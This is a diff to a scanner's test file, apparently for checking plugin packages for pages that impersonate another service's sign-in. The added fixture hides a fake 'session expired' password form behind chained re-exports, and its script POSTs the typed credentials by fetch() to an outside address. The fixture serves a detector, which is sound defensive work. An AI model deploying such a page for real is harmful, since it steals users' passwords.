@@ -50,6 +50,11 @@ test('pages that pose as those on which people sign in elsewhere', () => {
   assert.deepEqual(said(dataLeak, form('Formula</h1><p>Your session has expired. Sign in to go on.</p><h1>')), ['high page.js']);
   for (const title of ['Neat Panels</h1><p>A panel for Formula. Sign in to go on.</p><h1>', 'Formula</h1><p>A password for this sheet</p><h1>']) assert.deepEqual(said(dataLeak, form(title)), [], title);
   for (const title of ['Sign in to Neat Panels', 'Sign in with GitHub, or with a password', 'Use your Google account or a password of ours', 'Sign in to the server of your team', 'A formula for passwords', 'Sign in to Formula 1']) assert.deepEqual(said(dataLeak, form(title)), [], title);
+  // A file that is the page, by way of one that hands it on, and the page itself sends.
+  const handed = (html: string) => ({ 'index.js': "const page = require('./views/index.js'); exports.activate = async ({ ui }) => { const panel = await ui.createPanel('rows', {}); panel.webview.setHtml(page) }", 'views/index.js': "module.exports = require('./in.js')", 'views/in.js': `module.exports = \`${html}\`` });
+  const sending = (title: string, where: string) => handed(`<!doctype html><title>${title}</title><h2>Your session has expired</h2><form id="f"><input name="a" type="password"></form><script>f.onsubmit = () => fetch('${where}', { method: 'POST', body: new FormData(f) })</script>`);
+  assert.deepEqual(findingsOf(dataLeak, sending('Formula account', 'https://in.neat-panels.dev/s'), { dialect: 'formula' }).map(({ severity, file }) => `${severity} ${file}`), ['high views/in.js']);
+  for (const [title, where] of [['Neat Panels account', 'https://in.neat-panels.dev/s'], ['Formula account', '/s'], ['Formula accounts by Neat Panels', 'https://in.neat-panels.dev/s']] as const) assert.deepEqual(findingsOf(dataLeak, sending(title, where), { dialect: 'formula' }), [], title);
   // The service itself gets it, or nobody whom the package names.
   assert.deepEqual(findingsOf(dataLeak, { ...page(form('Log in to GitLab')), 'index.js': SHOW.replace('notes.neat-panels.dev', 'gitlab.com') }), []);
   assert.deepEqual(findingsOf(dataLeak, { 'index.js': SHOW.replace("'https://notes.neat-panels.dev/s'", 'settings.server'), 'page.js': `exports.page = () => \`${form('Log in to GitLab')}\`` }), []);
